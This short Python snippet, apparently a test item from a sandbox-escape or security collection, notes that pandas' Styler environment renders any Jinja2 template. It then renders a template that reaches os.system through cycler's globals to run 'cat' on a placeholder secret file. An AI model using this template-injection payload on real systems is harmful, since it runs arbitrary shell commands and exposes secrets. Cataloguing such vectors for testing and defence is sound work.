# The environment of pandas' styles renders any template.
# effect: run
# tree: scientific
import pandas
pandas.DataFrame().style.env.from_string("{{ cycler.__init__.__globals__.os.system('cat @SECRET@') }}").render()
